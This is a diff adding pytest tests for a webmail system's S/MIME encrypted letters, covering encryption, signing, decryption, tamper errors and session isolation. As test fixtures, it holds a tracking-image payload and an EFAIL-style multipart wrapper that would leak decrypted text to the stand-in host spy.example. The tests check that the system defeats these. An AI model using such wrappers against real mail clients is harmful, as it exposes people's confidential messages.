@@ -1,0 +1,173 @@
+"""Encrypted letters: written for those who can read them, opened by whoever shows who they are, and never shown wrongly."""
+
+import base64
+import re
+
+import pytest
+
+from directory.demo import FeaturedPerson
+from mailcore.pki import issue
+from mailcore.store import messages
+from mailcore.store.types import AccountId
+from signing import envelope
+from signing.envelope import Recipient
+from tests.signing.readers import reader
+from tests.webmail.site import EDUCATION, INTERIOR, Site, Visitor
+from tests.webmail.views.test_compose import compose, newest
+from tests.webmail.views.test_folder import text, uids
+
+pytestmark = pytest.mark.asyncio(loop_scope="session")
+ENTITY = b"Content-Type: text/html; charset=utf-8\r\n\r\n<p>Tr\xc3\xa8s <b>secret</b> <img src='https://spy.example/'></p>\r\n"
+TOP = b"From: amina@ailleurs.example\r\nTo: bureau.ordre@interieur.gov.example\r\nSubject: ...\r\nMIME-Version: 1.0\r\n"
+
+
+async def certified(site: Site, address: str) -> bytes:
+    """Return the certificate for encryption of an address, made at first need."""
+    from directory import certificates
+
+    account = await site.account(address)
+    if not await site.services.db.read(certificates.every, account, "encrypt"):
+        holder = await site.services.db.read(issue.subject, address)
+        await issue.to_account(site.services, "encrypt", holder)
+    return (await site.services.db.read(certificates.every, account, "encrypt"))[0].der
+
+
+async def arrived(site: Site, entity: bytes, *, modern: bool) -> str:
+    """Put an encrypted letter into the registry's inbox; return where it is read."""
+    certificate = await certified(site, INTERIOR)
+    sealed = envelope.seal(entity, [Recipient(certificate, modern)])
+    await site.deliver(INTERIOR, TOP + envelope.entity(sealed, "gcm" if modern else "cbc"))
+    return await newest_path(site)
+
+
+async def newest_path(site: Site) -> str:
+    from mailcore.store import mailboxes
+
+    account = AccountId(await site.account(INTERIOR))
+    inbox = await site.services.db.read(mailboxes.by_role, account, "inbox")
+    [stored] = await site.services.db.read(messages.page, inbox.key, None, 1)
+    return f"/mail/{account}/{inbox.key.mailbox_id}/{stored.uid}"
+
+
+async def opened(visitor: Visitor, path: str, password: str) -> str:
+    """Open an encrypted letter as its reader does; return the page."""
+    await visitor.get(path)
+    answer = await visitor.post(path, {"action": "decrypt"})
+    if "proof-password" in answer.text:
+        answer = await visitor.post(path, {"action": "decrypt", "proof-password": password})
+    return answer.text
+
+
+async def test_a_letter_is_encrypted_signed_and_read_at_the_other_end(site: Site, visitor: Visitor, clerk: FeaturedPerson) -> None:
+    for address in (INTERIOR, EDUCATION):
+        await certified(site, address)
+    to, post = await site.account(EDUCATION), await site.account(INTERIOR)
+    await site.services.store.open_account(to)
+    with site.services.store.bus.subscribe(AccountId(to)) as news:
+        path, fields = await compose(visitor, post)
+        fields |= {"to": EDUCATION, "subject": "سرّي للغاية", "text": "الموعد غدًا", "sign": "yes", "option": "encrypt", "action": "send"}
+        await visitor.post(path, fields)
+        assert f"/mail/{post}/sign/" in visitor.path
+        answer = await visitor.post(visitor.path, {"seen": visitor.value("seen"), "proof-password": clerk.password})
+        assert "The letter was signed and sent." in answer.text
+        assert await news.wait(20)
+    _, raw = await newest(site, to, "inbox")
+    assert b"smime-type=authEnveloped-data" in raw
+    assert b"\r\nSubject: [...]\r\n" in raw
+    assert "الموعد" not in str(base64.b64decode(raw.split(b"\r\n\r\n", 1)[1]).decode("utf-8", "replace"))
+    other = await site.signed_in(site.people[EDUCATION], "en")
+    await other.get(f"/mail/{to}/")
+    where = f"{other.path}/{uids(await text(other, other.path))[0]}"
+    closed = (await other.get(where)).text
+    assert "Open the letter" in closed
+    assert "الموعد غدًا" not in closed
+    page = await opened(other, where, site.people[EDUCATION].password)
+    assert "Encrypted letter, opened" in page
+    assert "الموعد غدًا" in page
+    assert "سرّي للغاية" in page
+    assert 'class="verdict good"' in page
+    assert "not those that were signed" not in page
+    _, sent = await newest(site, post, "sent")
+    assert b"authEnveloped-data" in sent
+    await other.get(f"/mail/{to}/compose?reply={where.split('/')[-2]}.{where.split('/')[-1]}")
+    assert other.last is not None
+    assert re.search(r'value="encrypt"\s+checked', other.last.text)
+    assert "سرّي للغاية" in other.last.text
+
+
+@pytest.mark.parametrize("modern", [True, False])
+async def test_only_what_nobody_can_have_changed_is_shown_formatted(
+    site: Site, visitor: Visitor, clerk: FeaturedPerson, modern: bool
+) -> None:
+    path = await arrived(site, ENTITY, modern=modern)
+    page = await opened(visitor, path, clerk.password)
+    assert "Encrypted letter, opened" in page
+    assert ("<iframe" in page) is modern
+    assert ("Nobody signed it" in page) is not modern
+    assert (await visitor.client.get(path + "/body")).status_code == (200 if modern else 404)
+    assert "spy.example" not in page
+
+
+async def test_whatever_is_wrong_is_told_in_one_way(site: Site, visitor: Visitor, clerk: FeaturedPerson) -> None:
+    certificate = await certified(site, INTERIOR)
+    good = envelope.seal(ENTITY, [Recipient(certificate, False)])
+    broken = good[:-1] + bytes([good[-1] ^ 1])
+    random = envelope.seal(b"\0\1\2 no entity", [Recipient(certificate, True)])
+    pages = []
+    for octets in (broken, random):
+        await site.deliver(INTERIOR, TOP + envelope.entity(octets, "cbc"))
+        pages.append(await opened(visitor, await newest_path(site), clerk.password))
+    await site.deliver(INTERIOR, TOP + envelope.entity(good[:-20], "cbc"))
+    pages.append((await visitor.get(await newest_path(site))).text)
+    said = [re.search(r'<section class="notice sealed.*?</section>', page, re.DOTALL) for page in pages]
+    assert len({one[0] for one in said if one}) == 1
+    assert "This letter cannot be decrypted." in pages[0]
+
+
+async def test_a_letter_for_somebody_else_stays_closed(site: Site, visitor: Visitor) -> None:
+    sealed = envelope.seal(ENTITY, [envelope.recipient(reader("p256").certificate)])
+    await site.deliver(INTERIOR, TOP + envelope.entity(sealed, "cbc"))
+    path = await newest_path(site)
+    assert "not encrypted for this mailbox" in (await visitor.get(path)).text
+    assert (await visitor.send(path, {"csrf": visitor.token(), "action": "decrypt"})).status_code == 404
+
+
+async def test_an_encrypted_part_among_others_is_a_file(site: Site, visitor: Visitor) -> None:
+    """Whoever wraps an encrypted text in a page of their own must not have it opened there."""
+    certificate = await certified(site, INTERIOR)
+    part = envelope.entity(envelope.seal(ENTITY, [Recipient(certificate, True)]), "gcm")
+    wrapped = b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src="https://spy.example/?\r\n--b\r\n'
+    await site.deliver(INTERIOR, TOP + wrapped + part + b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n')
+    page = (await visitor.get(await newest_path(site))).text
+    assert "Open the letter" not in page
+    assert "smime.p7m" in page
+
+
+async def test_another_session_does_not_see_what_one_has_opened(site: Site, visitor: Visitor, clerk: FeaturedPerson) -> None:
+    path = await arrived(site, ENTITY, modern=True)
+    assert "Encrypted letter, opened" in await opened(visitor, path, clerk.password)
+    other = await site.signed_in(clerk)
+    assert "Open the letter" in (await other.get(path)).text
+    site.clock.ahead_us += 11 * 60 * 1_000_000
+    try:
+        assert "Open the letter" in (await visitor.get(path)).text
+    finally:
+        site.clock.ahead_us = 0
+
+
+@pytest.mark.parametrize(
+    ("changes", "says"),
+    [
+        ({"to": "x@ailleurs.example"}, "No certificate for encryption is known for"),
+        ({"bcc": EDUCATION}, "An encrypted letter names everybody who can read it"),
+    ],
+)
+async def test_what_keeps_a_letter_from_being_encrypted_is_said(site: Site, visitor: Visitor, changes: dict[str, str], says: str) -> None:
+    for address in (INTERIOR, EDUCATION):
+        await certified(site, address)
+    path, fields = await compose(visitor, await site.account(INTERIOR))
+    fields |= {"to": EDUCATION, "subject": "x", "text": "y", "option": "encrypt", "action": "send", **changes}
+    answer = await visitor.post(path, fields)
+    assert answer.status_code == 422
+    assert says in answer.text
+    assert re.search(r'value="encrypt"\s+checked', answer.text)
